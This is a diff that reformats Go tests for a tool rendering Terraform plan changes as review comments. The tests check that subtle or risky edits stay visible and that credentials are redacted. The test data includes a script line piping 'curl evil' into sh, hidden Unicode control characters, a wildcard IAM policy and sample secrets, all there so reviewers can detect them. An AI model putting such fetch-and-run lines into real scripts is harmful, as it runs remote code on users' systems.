@@ -17,7 +17,9 @@ import (
 func one(t *testing.T, before, after string) string {
 	t.Helper()
 	s := summarize(t, parse(t, change("a", "x", fmt.Sprintf(`"actions":["update"],"before":{"v":%s},"after":{"v":%s}`, before, after))))
-	return comment.View{Fingerprint: plan.Fingerprint(strings.Repeat("a", 64)), Roots: []comment.RootView{{Dir: "d", Summary: s}}}.Comment(markdown.MaxComment)
+	return comment.View{
+		Fingerprint: plan.Fingerprint(strings.Repeat("a", 64)), Roots: []comment.RootView{{Dir: "d", Summary: s}},
+	}.Comment(markdown.MaxComment)
 }
 
 // What changes in a long value is shown, wherever in it, and two sides never look
@@ -36,18 +38,32 @@ func TestWhatChangesInALongValueIsShown(t *testing.T) {
 		before, after string
 		want, free    []string
 	}{
-		"the last statement of a policy": {statement("s3:ListBucket"), statement("*"), []string{`[\"s3:ListBucket\"]`, `[\"*\"]`, `-               "s3:ListBucket"`, `+               "*"`}, []string{"S3"}},
-		"the end of a line":              {`"` + long + `a"`, `"` + long + `b"`, []string{`xxxxa" → "…xxx`, `xxxxb"`}, []string{long}},
-		"the middle of a line":           {`"` + long + `a` + long + `"`, `"` + long + `b` + long + `"`, []string{"xaxx", "xbxx"}, nil},
-		"a line of a script":             {`"#!/bin/sh\necho 1\necho 2\necho 3\necho 4\ncurl good\n"`, `"#!/bin/sh\necho 1\necho 2\necho 3\necho 4\ncurl evil | sh\n"`, []string{"-       curl good", "+       curl evil | sh"}, nil},
-		"space at the end of a line":     {`"a\nb"`, `"a \nb"`, []string{"-       a\n", "+       a·\n"}, nil},
-		"a character without width":      {`"a\nb"`, `"a\u200b\nb"`, []string{`a\u200b`}, nil},
-		"text turned around":             {`"a\nb"`, `"a\u202eb\nb"`, []string{`\u202e`}, nil},
-		"layout alone":                   {`"{\"a\":[1,2,3],\"b\":\"` + strings.Repeat("y", 200) + `\"}"`, `"{ \"a\":[1,2,3],\"b\":\"` + strings.Repeat("y", 200) + `\"}"`, []string{`{\"a`, `{ \"a`}, nil},
-		"spaces between words":           {`"a b"`, `"a  b"`, []string{`"a b" → "a  b"`}, nil},
-		"a value that is new":            {`null`, `"#!/bin/sh\ncurl evil\n"`, []string{"+       curl evil"}, nil},
-		"a number of another kind":       {`1`, `"1"`, []string{`1 → "1"`}, nil},
-		"a list's last element":          {`["` + strings.Join(strings.Split(strings.Repeat("a", 300), ""), `","`) + `"]`, `["` + strings.Join(strings.Split(strings.Repeat("a", 299), ""), `","`) + `","evil"]`, []string{`v[299] "a" → "evil"`}, nil},
+		"the last statement of a policy": {
+			statement("s3:ListBucket"), statement("*"),
+			[]string{`[\"s3:ListBucket\"]`, `[\"*\"]`, `-               "s3:ListBucket"`, `+               "*"`}, []string{"S3"},
+		},
+		"the end of a line":    {`"` + long + `a"`, `"` + long + `b"`, []string{`xxxxa" → "…xxx`, `xxxxb"`}, []string{long}},
+		"the middle of a line": {`"` + long + `a` + long + `"`, `"` + long + `b` + long + `"`, []string{"xaxx", "xbxx"}, nil},
+		"a line of a script": {
+			`"#!/bin/sh\necho 1\necho 2\necho 3\necho 4\ncurl good\n"`,
+			`"#!/bin/sh\necho 1\necho 2\necho 3\necho 4\ncurl evil | sh\n"`,
+			[]string{"-       curl good", "+       curl evil | sh"}, nil,
+		},
+		"space at the end of a line": {`"a\nb"`, `"a \nb"`, []string{"-       a\n", "+       a·\n"}, nil},
+		"a character without width":  {`"a\nb"`, `"a\u200b\nb"`, []string{`a\u200b`}, nil},
+		"text turned around":         {`"a\nb"`, `"a\u202eb\nb"`, []string{`\u202e`}, nil},
+		"layout alone": {
+			`"{\"a\":[1,2,3],\"b\":\"` + strings.Repeat("y", 200) + `\"}"`,
+			`"{ \"a\":[1,2,3],\"b\":\"` + strings.Repeat("y", 200) + `\"}"`, []string{`{\"a`, `{ \"a`}, nil,
+		},
+		"spaces between words":     {`"a b"`, `"a  b"`, []string{`"a b" → "a  b"`}, nil},
+		"a value that is new":      {`null`, `"#!/bin/sh\ncurl evil\n"`, []string{"+       curl evil"}, nil},
+		"a number of another kind": {`1`, `"1"`, []string{`1 → "1"`}, nil},
+		"a list's last element": {
+			`["` + strings.Join(strings.Split(strings.Repeat("a", 300), ""), `","`) + `"]`,
+			`["` + strings.Join(strings.Split(strings.Repeat("a", 299), ""), `","`) + `","evil"]`, []string{`v[299] "a" → "evil"`},
+			nil,
+		},
 	} {
 		got := one(t, c.before, c.after)
 		for _, want := range c.want {
@@ -68,7 +84,10 @@ func TestWhatChangesInALongValueIsShown(t *testing.T) {
 func TestEveryChangeHasAPlace(t *testing.T) {
 	t.Parallel()
 	s := summarize(t, big(t, 1500))
-	v := comment.View{Fingerprint: plan.Fingerprint(strings.Repeat("a", 64)), RunURL: "https://github.com/run", Roots: []comment.RootView{{Dir: "calm", Summary: summary.Summary{}}, {Dir: "d", Summary: s}}}
+	v := comment.View{
+		Fingerprint: plan.Fingerprint(strings.Repeat("a", 64)), RunURL: "https://github.com/run",
+		Roots: []comment.RootView{{Dir: "calm", Summary: summary.Summary{}}, {Dir: "d", Summary: s}},
+	}
 	pages := v.Comments(markdown.MaxComment)
 	all := strings.Join(pages, "\n")
 	for i := range 1500 {
@@ -76,7 +95,9 @@ func TestEveryChangeHasAPlace(t *testing.T) {
 			t.Fatalf("change %d has no place in %d comments", i, len(pages))
 		}
 	}
-	if want := fmt.Sprintf("⚠️ This comment does not hold every change: %d more comments below it go on.", len(pages)-1); len(pages) < 3 || !strings.Contains(pages[0], want) || strings.Contains(pages[0], "not shown here in full") {
+	if want := fmt.Sprintf(
+		"⚠️ This comment does not hold every change: %d more comments below it go on.", len(pages)-1,
+	); len(pages) < 3 || !strings.Contains(pages[0], want) || strings.Contains(pages[0], "not shown here in full") {
 		t.Errorf("%d comments, the first says %s", len(pages), pages[0][:2000])
 	}
 	for i, p := range pages {
@@ -88,7 +109,10 @@ func TestEveryChangeHasAPlace(t *testing.T) {
 		}
 	}
 	v.Roots[1].Summary = summarize(t, big(t, 9000))
-	if first := v.Comments(markdown.MaxComment)[0]; !strings.Contains(first, "of 9000 changes are not shown here in full.** Read them in the log of the run before you approve: an approval covers them too.") {
+	if first := v.Comments(markdown.MaxComment)[0]; !strings.Contains(
+		first,
+		"of 9000 changes are not shown here in full.** Read them in the log of the run before you approve: an approval covers them too.",
+	) {
 		t.Errorf("it says %s", first[:3000])
 	}
 	// One value that no comment could hold is there, line by line.
@@ -107,9 +131,15 @@ func TestChecksAndWarningsAreShown(t *testing.T) {
 	s := summarize(t, parse(t, change("a", "x", `"actions":["create"]`),
 		`,"checks":[{"address":{"kind":"check","to_display":"check.health"},"status":"fail","instances":[{"address":{"to_display":"check.health"},"status":"fail","problems":[{"message":"the site answers 500"}]}]},{"address":{"kind":"check","to_display":"check.fine"},"status":"pass","instances":[{"address":{"to_display":"check.fine"},"status":"pass"}]}]`))
 	s.Warnings = []string{"Argument is deprecated\n\nuse another"}
-	shown := comment.View{Fingerprint: plan.Fingerprint(strings.Repeat("a", 64)), Roots: []comment.RootView{{Dir: "d", Summary: s, Whole: true}},
+	shown := comment.View{Fingerprint: plan.Fingerprint(strings.Repeat("a", 64)), Roots: []comment.RootView{{
+		Dir: "d", Summary: s, Whole: true,
+	}},
 		Removed: []roots.Removed{{Dir: "gone", Workspace: "default", State: "s3 bucket=b key=gone"}}}.Comment(markdown.MaxComment)
-	for _, want := range []string{"⚠️ **A check fails** in `d`", "check.health: the site answers 500", "⚠️ **terraform warns** in `d`", "Argument is deprecated", "bound to every file of the commit", "`gone` is no root any more.", "`s3 bucket=b key=gone`", "as orphans"} {
+	for _, want := range []string{
+		"⚠️ **A check fails** in `d`", "check.health: the site answers 500", "⚠️ **terraform warns** in `d`",
+		"Argument is deprecated", "bound to every file of the commit", "`gone` is no root any more.", "`s3 bucket=b key=gone`",
+		"as orphans",
+	} {
 		if i := strings.Index(shown, want); i < 0 || i > strings.Index(shown, "<details>") {
 			t.Errorf("%q is not shown above the changes: %s", want, shown)
 		}
@@ -122,7 +152,10 @@ func TestChecksAndWarningsAreShown(t *testing.T) {
 // A value that is called sensitive hides values, and never what changes.
 func TestSensitiveValuesHideNoNames(t *testing.T) {
 	t.Parallel()
-	s := summarize(t, parse(t, change("aws_iam_policy.evil", "aws_iam_policy", `"actions":["update"],"before":{"policy":"old-policy-text","ingress":{"policy":"x"}},"after":{"policy":"new-policy-text","ingress":{"policy":"y"}}`),
+	s := summarize(t, parse(t, change(
+		"aws_iam_policy.evil", "aws_iam_policy",
+		`"actions":["update"],"before":{"policy":"old-policy-text","ingress":{"policy":"x"}},"after":{"policy":"new-policy-text","ingress":{"policy":"y"}}`,
+	),
 		`,"variables":{"hide":{"value":"aws_iam_policy.evil"},"too":{"value":"policy"}},"configuration":{"root_module":{"variables":{"hide":{"sensitive":true},"too":{"sensitive":true}}}}`))
 	if s.Resources[0].Address != "aws_iam_policy.evil" || s.Resources[0].Attributes[1].Path != "policy" {
 		t.Errorf("%+v", s.Resources[0])
@@ -133,7 +166,8 @@ func TestSensitiveValuesHideNoNames(t *testing.T) {
 // settings are not.
 func TestCredentialsOfTheJobAreHidden(t *testing.T) {
 	t.Parallel()
-	secrets := redact.GivenSecrets([]string{"AWS_SECRET_ACCESS_KEY=abc/def-0815", "AWS_SESSION_TOKEN=session-4711", "HTTPS_PROXY=http://user:proxy-word@proxy:3128", "TF_ENCRYPTION=passphrase-1234",
+	secrets := redact.GivenSecrets([]string{"AWS_SECRET_ACCESS_KEY=abc/def-0815", "AWS_SESSION_TOKEN=session-4711",
+		"HTTPS_PROXY=http://user:proxy-word@proxy:3128", "TF_ENCRYPTION=passphrase-1234",
 		"AWS_REGION=eu-central-1", "HOME=/home/runner", "AWS_WEB_IDENTITY_TOKEN_FILE=/tmp/token", "PATH=/usr/bin"})
 	for _, secret := range []string{"abc/def-0815", "session-4711", "proxy-word", "passphrase-1234"} {
 		if got := secrets.Redact("Error: it says " + secret + " here"); got != "Error: it says "+redact.Hidden+" here" {
